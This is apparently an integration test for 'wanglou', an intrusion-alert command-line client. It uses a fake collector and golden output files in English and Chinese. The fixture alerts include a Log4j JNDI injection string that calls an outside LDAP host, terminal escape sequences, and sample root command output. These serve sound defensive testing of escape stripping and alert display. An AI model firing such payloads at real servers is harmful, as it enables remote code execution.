#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What `wanglou` prints, in English and Chinese, against golden files. A pretended collector gives fixed answers.
cli.py [--golden] refreshes tests/integration/golden/; review with git diff."""
import difflib, http.server, json, os, subprocess, sys, tempfile, threading
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
WANGLOU = os.environ.get("WANGLOU", str(ROOT / "build/asan/wanglou"))
GOLDEN = HERE / "golden"

def event(n, **more):
    e = {"timestamp": f"2026-11-22T10:0{n}:00.000001+0000", "flow_id": 1000 + n, "event_type": "alert",
         "src_ip": "203.0.113.66", "src_port": 4000 + n, "dest_ip": "10.10.1.20", "dest_port": 8080, "proto": "TCP",
         "app_proto": "http", "community_id": "1:abcdefghijklmnopqrstuvwxyz0=", "probe": {"name": "dmz-1"},
         "alert": {"action": "allowed", "gid": 1, "signature_id": 9000000 + n, "rev": 1,
                   "signature": "WANGLOU EXPLOIT Log4j remote code execution", "category": "Attack", "severity": n},
         "segment": {"dest": {"name": "电子政务外网", "unit": "市信息中心", "importance": 4}}}
    e.update(more)
    return e

ALERTS = [
    {"id": 31, "status": "open", "received": "2026-11-22T10:01:01.000000+0000",
     "event": event(1, verdict="success", name_zh="Log4j远程代码执行漏洞利用", attack={"technique": "T1190"},
                    gbt20986={"code": "02004", "version": "gbt20986:2023"},
                    geoip={"src": {"country": "NL", "asn": 64500, "as_org": "Example"}},
                    http={"hostname": "app.gov.example", "url": "/?x=${jndi:ldap://203.0.113.66/a}\u001b[31m"})},
    {"id": 30, "status": "escalated", "received": "2026-11-22T10:02:01.000000+0000",
     "event": event(2, src_ip="2001:db8::1", verdict="attempt", segment={})},
    {"id": 29, "status": "false_positive", "probe": "whose-key-it-is", "received": "2026-11-22T10:03:01.000000+0000",
     "event": event(3, src_port=None, dest_port=None, notice={"detector": "portscan", "facts": {"targets": 120}})},
]
DETAIL = dict(ALERTS[0], history=[{"status": "acknowledged", "who": "李明", "reason": "正在核实", "at": "2026-11-22T10:05:00.0+0000"}])
OUTWARD = {"id": 33, "status": "open", "received": "2026-11-22T10:09:01.000000+0000", "history": [],
           "event": event(1, verdict="compromised", src_ip="10.10.1.20", dest_ip="203.0.113.66", segment={"src": {"name": "政务云"}})}
FACTS = {"service": "ssh", "failures": 66, "window_s": 300, "elapsed_s": 148.452619, "likelihood_ratio": 16777216.5}
GUESSED = {"id": 34, "status": "open", "received": "2026-11-22T10:09:01.000000+0000", "history": [],
           "event": event(1, verdict="compromised", src_ip="10.10.1.20", src_port=None, dest_ip="10.20.5.20", dest_port=22, flow_id=None,
                          attack={"technique": "T1078"}, notice={"detector": "password_guessing", "facts": FACTS})}
SHELL = {"id": 35, "status": "open", "received": "2026-11-22T10:09:01.000000+0000", "history": [],
         "event": event(1, verdict="compromised", src_ip="10.10.1.20", src_port=8080, dest_ip="203.0.113.66", dest_port=4001,
                        attack={"technique": "T1505.003"}, segment={"src": {"name": "DMZ"}}, flow={"src_ip": "203.0.113.66", "src_port": 4001},
                        ndpi={"proto": "HTTP", "risk": [{"id": 5, "name": "Known Protocol on Non Standard Port", "severity": "Medium"}]})}
TUNNEL = {"id": 36, "status": "open", "received": "2026-11-22T10:09:01.000000+0000", "history": [],
          "event": event(1, verdict="compromised", src_ip="10.10.1.53", src_port=41644, dest_ip="198.51.100.53", dest_port=53,
                         attack={"technique": "T1071.004"}, segment={})}
TENANT = {"id": 37, "status": "open", "received": "2026-11-22T10:09:01.000000+0000", "history": [],
          "event": event(1, verdict="attempt", in_iface="eth1", link={"name": "uplink-a", "direction": "in", "segment": "云平台"}, vlan=[5, 6],
                         tunnel={"src_ip": "172.16.0.1", "src_port": 50002, "dest_ip": "172.16.0.2", "dest_port": 4789, "proto": "UDP", "type": "vxlan", "depth": 1, "vni": 100})}
JUDGED = {"id": 39, "status": "open", "received": "2026-11-22T10:09:01.000000+0000", "history": [], "verdict": "compromised",
          "event": event(1, verdict="attempt", alert_id="8cebdc4d69f3a1e9", attack={"technique": "T1190"}),
          "updates": [{"event_type": "alert_update", "alert_id": "8cebdc4d69f3a1e9", "verdict": "compromised", "verdict_reason": {
              "code": "command_output", "text": "the answer has the output of a command", "text_zh": "应答中出现命令执行结果",
              "direction": "to_client", "seen": "uid=0(root) gid=0(root)\u001b[31m"}}],
          "evidence": [{"event_type": "evidence", "evidence": {"alert_ids": ["8cebdc4d69f3a1e9"], "file": "8cebdc4d69f3a1e9.pcap", "packets": 14}}]}
OTHER = dict(TENANT, id=38, event=dict(TENANT["event"], tunnel=dict(TENANT["event"]["tunnel"], vni=200)))
def record(kind, n, **body):
    return dict(event(n % 10), event_type=kind, flow_id=n, **{kind: body})
WORDS = {"records": [
    record("http", 1001, http_method="POST", hostname="10.10.1.20", url="/upload/help.jsp", status=200, http_content_type="text/plain", length=39),
    record("dns", 2, type="answer", rrtype="A", rrname="x" * 120 + ".t.cdn-update.example", rcode="NOERROR", answers=[{"rdata": "192.0.2.1\0x"}, {"rdata": "192.0.2.2"}]),
    record("tls", 3, version="TLS 1.2", sni="www.example"),
    record("ssh", 4, client={"software_version": "libssh_0.10.6"}, server={"software_version": "OpenSSH_9.2p1"}),
    record("ftp", 5, command="USER", command_data="li", completion_code=["331"], reply=["Please specify the password."]),
    record("smb", 6, command="TREE_CONNECT", share="ADMIN$")]}
MANY = {"records": [record("flow", n, pkts_toserver=n, pkts_toclient=1, bytes_toserver=n * 100, bytes_toclient=60, state="closed", alerted=n == 7) for n in range(40)], "cut": True}
RECORDS = {"records": [dict(event(1), event_type="flow", flow={"pkts_toserver": 5, "state": "closed"})]}
LANES = []
PROBES = {"probes": [
    {"name": "dmz-1", "connected": True, "last_seen": "2026-11-22T10:05:00.000000+0000", "events": 1234567, "waiting_bytes": 3145728, "missing": 0, "clock_offset_ms": 3.2, "lanes": LANES},
    {"name": "政务云", "connected": False, "last_seen": None, "events": 0, "waiting_bytes": 0, "missing": 17, "clock_offset_ms": 0, "lanes": LANES},
    {"name": "replay", "connected": False, "finished": True, "last_seen": "2026-11-22T09:05:00.000000+0000", "events": 500, "waiting_bytes": 0, "missing": 0, "clock_offset_ms": 0, "lanes": LANES}],
    "refused_keys": 3}

STATS = {"events": [{"event_type": "stats", "stats": {"links": [
    {"interface": "eth1", "name": "uplink-a", "state": "ok", "packets": 98765432, "bytes": 71234567890, "kernel_drops": 12, "if_drops": 3, "idle_s": 0, "connections": 54321, "one_way": 7},
    {"interface": "eth3", "state": "down", "packets": 0, "bytes": 0, "kernel_drops": 0, "if_drops": 0, "idle_s": 700, "connections": 0, "one_way": 0},
    {"interface": "eth2", "state": "one-way", "packets": 4, "bytes": 400, "kernel_drops": 0, "if_drops": 0, "idle_s": 12, "connections": 20, "one_way": 20}],
    "capture": {"packets": 98765436, "kernel_drops": 12, "if_drops": 3},
    "decoder": {"pkts": 98765436, "to_flow": 98000000, "no_ip": 700000, "invalid": 436, "unknown_link": 0, "fragment_kept": 65000},
    "flow": {"packets": 97999990, "no_flow": 8, "memory_failed": 0}, # two are missing
    "identify": {"packets": 12345678, "settled": 85654000, "left_out": 312}}}], "next": None}

class Collector(http.server.BaseHTTPRequestHandler):
    def answer(self, body):
        path = self.path.split("?")[0]
        if path == "/api/v1/login":
            good = json.loads(body)["password"] == "correct horse"
            return (200, {"token": "a" * 64, "user": "li", "expires": "2026-11-22T22:00:00.000000+0000"}) if good else (401, {"error": "user or password is wrong"})
        if self.headers.get("Authorization") != "Bearer " + "a" * 64:
            return 401, {"error": "a token is needed"}
        if path.endswith("/settle"):
            status = json.loads(body)["status"]
            return (200, {"id": int(path.split("/")[4]), "status": status}) if status == "false_positive" else (400, {"error": "status: allowed is ..."})
        if "bogus" in self.path:
            return 400, {"error": "since: allowed is a time"}
        if "status=open" in self.path: # three like 31, itself among them, and one in another network
            return 200, {"alerts": [dict(ALERTS[0], id=n) for n in (31, 28, 27)] + [TENANT] + ALERTS[1:], "next": None}
        table = {"/api/v1/alerts": {"alerts": ALERTS, "next": "0.3.1.29" if "limit=3" in self.path else None},
                 "/api/v1/alerts/31": DETAIL, "/api/v1/alerts/31/flows": RECORDS,
                 "/api/v1/alerts/33": OUTWARD, "/api/v1/alerts/33/flows": {"records": []}, "/api/v1/probes": PROBES, "/api/v1/events": STATS if "type=stats" in self.path and "probe=dmz-1" in self.path else
                 {"events": []} if "probe=replay" in self.path else None,
                 "/api/v1/alerts/34": GUESSED, "/api/v1/alerts/34/flows": MANY, "/api/v1/alerts/35": SHELL, "/api/v1/alerts/35/flows": WORDS,
                 "/api/v1/alerts/39": JUDGED, "/api/v1/alerts/39/flows": {"records": []},
                 "/api/v1/alerts/36": TUNNEL, "/api/v1/alerts/37": TENANT, "/api/v1/alerts/37/flows": {"records": [dict(r, tunnel=OTHER["event"]["tunnel"]) for r in RECORDS["records"]]}}
        if "sid=77" in self.path:  # one attack in two virtual networks, its addresses the same
            return 200, {"alerts": [TENANT, OTHER], "next": None}
        return (200, table[path]) if path in table else (404, {"error": "there is no such alert"})

    def do_GET(self):
        self.reply(*self.answer(b""))

    def do_POST(self):
        self.reply(*self.answer(self.rfile.read(int(self.headers["Content-Length"]))))

    def reply(self, status, value):
        text = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def log_message(self, *_):
        pass

CASES = [  # name, arguments, exit status
    ("help", ["help"], 0),
    ("alerts", ["alerts", "--since", "24h"], 0),
    ("alerts-page", ["alerts", "--limit=3"], 0),
    ("alerts-narrow", ["alerts"], 0),
    ("alert", ["alert", "31"], 0),
    ("alert-outward", ["alert", "33"], 0),
    ("alerts-group", ["alerts", "--group"], 0),
    ("alerts-80-narrow", ["alerts", "--group", "--limit", "2"], 0),
    ("alert-guessed", ["alert", "34"], 0),
    ("alert-flows", ["alert", "34", "--flows", "2"], 0),
    ("alert-shell", ["alert", "35"], 0),
    ("alert-judged", ["alert", "39"], 0),
    ("alert-tunnel-brief", ["alert", "36", "--brief"], 0),
    ("alert-tenant", ["alert", "37"], 0),
    ("alerts-tenants-group", ["alerts", "--group", "--sid", "77"], 0),
    ("settle-tenant-repeats", ["settle", "37", "--as", "false-positive", "--why", "扫描", "--repeats"], 0),
    ("help-alerts", ["alerts", "--help"], 0),
    ("too-much", ["probes", "x"], 2),
    ("settle-repeats", ["settle", "31", "--as", "false-positive", "--why", "扫描", "--repeats"], 0),
    ("alert-none", ["alert", "99"], 3),
    ("settle", ["settle", "31", "--as", "false-positive", "--why", "我们自己的扫描"], 0),
    ("settle-wrong", ["settle", "31", "--as", "gone", "--why", "x"], 2),
    ("probes", ["probes"], 0),
    ("bad-filter", ["alerts", "--since", "bogus"], 2),
    ("unknown-option", ["alerts", "--sinc", "1h"], 2),
    ("unknown-command", ["alrts"], 2),
    ("no-login", ["alerts"], 4),
]

def run(args, lang, home, columns="130", token=True):
    env = {"PATH": os.environ["PATH"], "HOME": home, "LC_ALL": lang, "COLUMNS": columns, "WANGLOU_URL": URL,
           "TZ": "CST-8" if lang.startswith("zh") else "UTC0", "ASAN_OPTIONS": os.environ.get("ASAN_OPTIONS", "")}
    if token:
        env["WANGLOU_TOKEN_FILE"] = home + "/token"
    p = subprocess.run([WANGLOU, *args], env=env, capture_output=True, timeout=60, cwd=ROOT)
    return p.returncode, (p.stdout + p.stderr).decode().replace(URL, "URL")

def check(name, good, text=""):
    global failed
    failed |= not good
    print(("ok - " if good else "not ok - ") + name)
    if not good:
        print("\n".join("# " + line for line in text.splitlines()))

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
threading.Thread(target=server.serve_forever, daemon=True).start()
URL = f"http://127.0.0.1:{server.server_address[1]}"
failed = False
with tempfile.TemporaryDirectory() as home:
    Path(home, "token").write_text("a" * 64 + "\n")
    Path(home, "token").chmod(0o600)
    for lang in ("en", "zh"):
        for name, args, status in CASES:
            code, text = run(args, {"en": "C.UTF-8", "zh": "zh_CN.UTF-8"}[lang], home, "80" if "80" in name else "90" if "narrow" in name else "130", name != "no-login")
            golden = GOLDEN / lang / (name + ".txt")
            if "--golden" in sys.argv:
                golden.parent.mkdir(parents=True, exist_ok=True)
                golden.write_text(text)
            want = golden.read_text() if golden.exists() else ""
            diff = "\n".join(difflib.unified_diff(want.splitlines(), text.splitlines(), "golden", "now", lineterm=""))
            check(f"{lang} {name}", code == status and text == want, f"exit status {code}, wanted {status}\n{diff}")
            check(f"{lang} {name} sends no escapes to the terminal", "\x1b" not in text, text)
    code, text = run(["alerts", "--json"], "C", home)
    check("--json gives the answer as it is", code == 0 and json.loads(text)["alerts"] == ALERTS, text)
    Path(home, "token").chmod(0o644)
    code, text = run(["alerts"], "C", home)
    check("a token that others may read is not used", code == 4 and "chmod 600" in text, text)
    Path(home, "password").write_text("correct horse\n")
    code, text = run(["login", "li", "--url", URL, "--password-file", home + "/password"], "C", home, token=False)
    kept = Path(home, ".config/wanglou/token")
    check("login keeps a token for us only", code == 0 and kept.stat().st_mode & 0o77 == 0, text)
    code, text = run(["probes"], "C", home, token=False)
    check("the kept token is used", code == 0, text)
    Path(home, "password").write_text("wrong\n")
    code, text = run(["login", "li", "--url", URL, "--password-file", home + "/password"], "C", home, token=False)
    check("a wrong password is said", code == 4 and "wrong" in text, text)
    data = home + "/data"
    code, text = run(["user", "add", "li", "--data-dir", data, "--generate"], "C", home)
    check("user add shows a generated password once", code == 0 and len(text.split("): ")[1].split()[0]) == 20, text)
    check("users file is for us only", Path(data, "users").stat().st_mode & 0o77 == 0)
    check("the password is not in it", text.split("): ")[1].split()[0] not in Path(data, "users").read_text())
    code, text = run(["user", "add", "li", "--data-dir", data, "--generate"], "C", home)
    check("a user is not added twice", code == 1 and "already" in text, text)
    code, text = run(["user", "list", "--data-dir", data], "C", home)
    check("user list", code == 0 and "li" in text, text)
    code, text = run(["user", "remove", "li", "--data-dir", data], "C", home)
    check("user remove", code == 0 and "li " not in Path(data, "users").read_text().split("\n", 1)[1], text)
    code, text = run(["keys", "new", "p1", "--dir", home], "C", home)
    check("keys new", code == 0 and Path(home, "p1.key").stat().st_mode & 0o77 == 0, text)
    code, text = run(["keys", "new", "p1", "--dir", home], "C", home)
    check("keys are never overwritten", code == 1, text)
    Path(home, "authorized").mkdir()
    Path(home, "authorized/p1.pub").write_text(Path(home, "p1.pub").read_text())
    code, text = run(["keys", "list", "--dir", home + "/authorized"], "C", home)
    check("keys list", code == 0 and "p1" in text, text)
    rules = Path(home, "t.rules")
    rules.write_text('alert tcp any any -> any 80 (msg:"测试"; contnt:"a"; sid:1; rev:1;)\nalert tcp any any -> any 80 (msg:"ok"; content:"abc"; sid:3; rev:1;)\n')
    code, text = run(["rules", "check", str(rules)], "C", home)
    lines = text.splitlines()
    place = lines[1].index("contnt") + 2 if len(lines) > 2 else -1 # two wide characters stand before it
    check("rules check points at the word", code == 1 and ":1:" in lines[0] and lines[2].index("^") == place, text)
    code, text = run(["rules", "check", home + "/none.rules"], "C", home)
    check("a rule file that is not there is not fine", code == 1 and "fine" not in text, text)
    rules.write_text('alert tcp any any -> any 80 (msg:"ok"; content:"abc"; sid:3; rev:1;)\n')
    code, text = run(["rules", "check", str(rules)], "C", home)
    check("good rules are said to be fine", code == 0 and "fine" in text, text)
    code, text = run(["doctor"], "C", home)
    check("doctor finds the collector", URL.replace(URL, "URL") in text and "capture" in text, text)
sys.exit(1 if failed else 0)
